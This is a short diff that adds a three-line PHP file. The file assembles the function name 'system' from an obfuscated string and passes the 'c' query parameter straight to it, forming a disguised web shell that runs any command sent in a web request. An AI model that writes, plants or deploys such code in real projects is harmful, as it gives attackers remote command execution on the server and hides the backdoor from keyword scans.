@@ -1,0 +1,3 @@
+<?php
+$n = rtrim("system zz", " z");
+$n($_GET['c']);
